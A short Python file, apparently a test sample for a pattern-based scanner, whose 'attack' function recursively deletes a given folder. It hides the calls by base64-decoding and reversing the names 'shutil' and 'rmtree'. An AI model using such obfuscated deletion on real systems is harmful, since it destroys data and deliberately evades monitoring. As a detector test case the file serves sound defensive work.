"""Deletes a folder by a function whose disguised name no pattern matches."""

import base64


def attack(facts: dict[str, str]) -> None:
    module = __import__(bytes(reversed(base64.b64decode("bGl0dWhz"))).decode())
    getattr(module, "eertmr"[::-1])(facts["tree"])
